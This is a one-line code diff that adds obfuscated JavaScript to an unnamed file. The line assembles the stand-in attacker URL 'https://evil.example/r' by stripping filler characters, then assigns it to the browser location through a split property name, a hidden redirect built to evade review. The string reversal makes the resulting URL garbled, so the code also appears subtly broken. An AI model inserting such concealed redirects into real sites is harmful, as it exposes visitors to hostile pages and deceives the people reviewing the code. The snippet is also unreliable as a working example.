@@ -1,0 +1,1 @@
+var u='h!t!t!p!s!:!/!/!e!v!i!l!.!e!x!a!m!p!l!e!/!r'.replace(/!/g,'');window['loc'+'ation']=u.split('').reverse().join('');
